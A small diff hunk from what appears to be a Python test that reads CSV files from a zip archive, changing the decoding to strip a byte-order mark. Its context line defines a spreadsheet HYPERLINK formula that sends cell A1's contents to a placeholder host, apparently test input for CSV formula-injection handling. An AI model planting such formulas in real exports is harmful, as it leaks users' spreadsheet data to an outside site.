@@ -23,7 +23,7 @@ FORMULA = '=HYPERLINK("https://example.invalid/?"&A1,"open")'
 
 def _csv_cells(archive: bytes, name: str) -> list[dict[str, str]]:
     with zipfile.ZipFile(io.BytesIO(archive)) as opened:
-        text = opened.read(f"csv/{name}.csv").decode()
+        text = opened.read(f"csv/{name}.csv").decode("utf-8-sig")
     return list(csv.DictReader(io.StringIO(text)))
 
 
